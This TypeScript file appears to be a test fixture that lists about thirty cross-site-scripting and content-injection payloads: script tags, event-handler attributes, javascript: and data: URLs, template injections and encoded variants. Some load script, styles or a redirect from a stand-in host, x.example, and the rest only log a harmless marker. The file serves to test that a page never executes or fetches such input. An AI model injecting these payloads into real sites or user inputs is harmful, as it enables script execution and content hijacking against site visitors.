/** What every payload says that runs, to be looked for in the console. */
export const MARK = 'it-ran';

const RUN = `console.log('${MARK}')`;

/** Host that no page may ask for anything, and nobody has. */
export const ELSEWHERE = 'https://x.example';

/**
 * Texts that would run, load or lead away if a page took them for HTML, CSS or code. Each is short
 * enough for the name of a key, and none needs another one.
 */
export const payloads: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src=${ELSEWHERE}/x.js></script>`,
  `"><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</iframe><script>${RUN}</script>`,
  `</textarea></title><script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=${ELSEWHERE}/pixel.png>`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=9>x</text></a></svg>`,
  `<a href="javascript:${RUN}">link</a>`,
  `<a href="&#106;avascript:${RUN}">link</a>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe src="data:text/html,<script>${RUN}</script>"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="${ELSEWHERE}/x.svg">`,
  `<style>@import "${ELSEWHERE}/x.css";</style>`,
  `<div style="background:url(${ELSEWHERE}/x.gif)">x</div>`,
  `<link rel=stylesheet href=${ELSEWHERE}/y.css>`,
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}/">`,
  `<base href=${ELSEWHERE}/>`,
  `<form action=${ELSEWHERE}><button autofocus onfocus="${RUN}">x</button></form>`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<video src=${ELSEWHERE}/v autoplay onerror="${RUN}"></video>`,
  `<math><mtext><img src=x onerror="${RUN}"></mtext></math>`,
  `{{constructor.constructor("${RUN}")()}}`,
  `\${${RUN}}`,
  `' onmouseover='${RUN}' x='`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `＜script＞${RUN}＜/script＞`,
  `javascript:${RUN}//`,
];
